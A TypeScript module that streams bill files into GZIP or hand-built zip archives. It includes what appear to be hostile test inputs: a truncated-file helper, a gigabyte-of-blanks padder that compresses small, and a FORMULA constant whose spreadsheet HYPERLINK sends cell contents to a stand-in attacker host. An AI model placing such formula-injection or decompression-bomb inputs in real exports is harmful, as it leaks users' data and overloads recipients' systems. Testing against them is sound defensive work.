/** Writes bill files in pieces of limited size, to save memory, and compresses them with GZIP or as a zip. */
import iconv from 'iconv-lite';
import { Readable, type Transform } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { crc32, createDeflateRaw } from 'node:zlib';

/** The number of characters that are encoded and written at once. A larger piece is faster but needs more memory. */
const PIECE = 64 * 1024;

/** Joins lines into large pieces and encodes each piece. */
export function* piecesOf(lines: Iterable<string>, charset: 'utf8' | 'gbk'): Iterable<Buffer> {
  let text = '';
  for (const line of lines) {
    text += line;
    if (text.length < PIECE) continue;
    yield iconv.encode(text, charset);
    text = '';
  }
  if (text !== '') yield iconv.encode(text, charset);
}

/** Yields the pieces of a file one by one. Between two pieces, other work of the process can run. */
export async function* inTurn(pieces: Iterable<Buffer>): AsyncIterable<Buffer> {
  for (const piece of pieces) {
    yield piece;
    await new Promise((resolve) => setImmediate(resolve));
  }
}

/** Yields the first half of a file, as if its writer had stopped there. */
export async function* firstHalf(pieces: AsyncIterable<Buffer>): AsyncIterable<Buffer> {
  const all: Buffer[] = [];
  for await (const piece of pieces) all.push(piece);
  const file = Buffer.concat(all);
  yield file.subarray(0, file.length >> 1);
}

/** Formats minor units with two decimals and the sign. */
export function hundredths(minor: number): string {
  const digits = String(Math.abs(minor)).padStart(3, '0');
  return `${minor < 0 ? '-' : ''}${digits.slice(0, -2)}.${digits.slice(-2)}`;
}

/** A text that no bill reader accepts as an amount. */
export const UNREADABLE = '--';

export const FORMULA = `=HYPERLINK("http://attacker.example/"&A1;"open")`;

const BLANKS = Buffer.alloc(1024 * 1024, ' ');

/** Sends the pieces through `packer` and yields the packed bytes. */
export async function* packedBy(packer: Transform, pieces: AsyncIterable<Buffer>): AsyncIterable<Buffer> {
  const feeding = pipeline(Readable.from(pieces, { objectMode: false }), packer);
  // The loop below also receives the error; this handler only prevents an unhandled rejection.
  feeding.catch(() => undefined);
  for await (const piece of packer as AsyncIterable<Buffer>) yield piece;
  await feeding;
}

/** Appends a gigabyte of blanks to a file. The blanks are small when packed. */
export async function* withGigabyte(pieces: AsyncIterable<Buffer>): AsyncIterable<Buffer> {
  yield* pieces;
  for (let count = 0; count < 1024; count += 1) yield BLANKS;
}

/** The zip does not declare the charset of the encoded `name` (flag bit 11 is not set). */
export interface ZipEntry {
  name: Buffer;
  content: AsyncIterable<Buffer>;
}

const DESCRIPTOR_FOLLOWS = 0x0008;
const DEFLATED = 8;
const VERSION = 20;

interface Sums {
  crc: number;
  packed: number;
  size: number;
}

/**
 * Writes a zip in pieces. The sizes and checksum of each file follow its data (APPNOTE.TXT 6.3, sections 4.3.7, 4.3.9
 * and 4.3.12).
 */
export async function* zipOf(entries: readonly ZipEntry[], at: number): AsyncGenerator<Buffer> {
  const directory: Buffer[] = [];
  let offset = 0;
  const stamp = dosTime(at);
  for (const { name, content } of entries) {
    const header = localHeader(name, stamp);
    yield header;
    const sums: Sums = { crc: 0, packed: 0, size: 0 };
    for await (const piece of deflated(content, sums)) yield piece;
    yield descriptor(sums);
    directory.push(centralHeader(name, stamp, sums, offset));
    offset += header.length + sums.packed + 16;
  }
  const central = Buffer.concat(directory);
  yield central;
  yield end(entries.length, central.length, offset);
}

async function* deflated(content: AsyncIterable<Buffer>, sums: Sums): AsyncIterable<Buffer> {
  const counted = async function* () {
    for await (const piece of content) {
      sums.crc = crc32(piece, sums.crc);
      sums.size += piece.length;
      yield piece;
    }
  };
  for await (const piece of packedBy(createDeflateRaw(), counted())) {
    sums.packed += piece.length;
    yield piece;
  }
}

function localHeader(name: Buffer, stamp: number): Buffer {
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(VERSION, 4);
  header.writeUInt16LE(DESCRIPTOR_FOLLOWS, 6);
  header.writeUInt16LE(DEFLATED, 8);
  header.writeUInt32LE(stamp, 10);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, name]);
}

function descriptor({ crc, packed, size }: Sums): Buffer {
  const bytes = Buffer.alloc(16);
  bytes.writeUInt32LE(0x08074b50, 0);
  bytes.writeUInt32LE(crc, 4);
  bytes.writeUInt32LE(packed, 8);
  bytes.writeUInt32LE(size, 12);
  return bytes;
}

function centralHeader(name: Buffer, stamp: number, { crc, packed, size }: Sums, offset: number): Buffer {
  const header = Buffer.alloc(46);
  header.writeUInt32LE(0x02014b50, 0);
  header.writeUInt16LE(VERSION, 4);
  header.writeUInt16LE(VERSION, 6);
  header.writeUInt16LE(DESCRIPTOR_FOLLOWS, 8);
  header.writeUInt16LE(DEFLATED, 10);
  header.writeUInt32LE(stamp, 12);
  header.writeUInt32LE(crc, 16);
  header.writeUInt32LE(packed, 20);
  header.writeUInt32LE(size, 24);
  header.writeUInt16LE(name.length, 28);
  header.writeUInt32LE(offset, 42);
  return Buffer.concat([header, name]);
}

function end(count: number, size: number, offset: number): Buffer {
  const bytes = Buffer.alloc(22);
  bytes.writeUInt32LE(0x06054b50, 0);
  bytes.writeUInt16LE(count, 8);
  bytes.writeUInt16LE(count, 10);
  bytes.writeUInt32LE(size, 12);
  bytes.writeUInt32LE(offset, 16);
  return bytes;
}

/** Encodes a Beijing time as MS-DOS value; the time is the low half, because zip headers store it first. */
function dosTime(at: number): number {
  const day = new Date(at + 8 * 3_600_000);
  const time = (day.getUTCHours() << 11) | (day.getUTCMinutes() << 5) | (day.getUTCSeconds() >> 1);
  const date = ((day.getUTCFullYear() - 1980) << 9) | ((day.getUTCMonth() + 1) << 5) | day.getUTCDate();
  return ((date << 16) | time) >>> 0;
}
